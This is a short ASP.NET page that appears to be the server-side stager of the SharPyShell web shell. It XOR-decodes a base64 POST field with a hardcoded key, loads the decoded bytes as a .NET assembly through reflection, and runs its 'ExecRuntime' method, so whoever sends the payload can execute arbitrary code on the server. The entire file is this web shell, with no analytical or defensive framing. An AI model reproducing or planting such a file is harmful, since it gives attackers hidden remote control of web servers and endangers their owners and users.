<%@ Page Language="C#" %><%
byte[] k = System.Text.Encoding.UTF8.GetBytes("b4c9a7e1");
byte[] d = Convert.FromBase64String(Request.Form["data"]);
for (int i = 0; i < d.Length; i++) d[i] ^= k[i % k.Length];
var a = System.Reflection.Assembly.Load(d);
var t = a.GetType("SharPyShell");
Response.Write(t.GetMethod("ExecRuntime").Invoke(Activator.CreateInstance(t), new object[0]));
%>
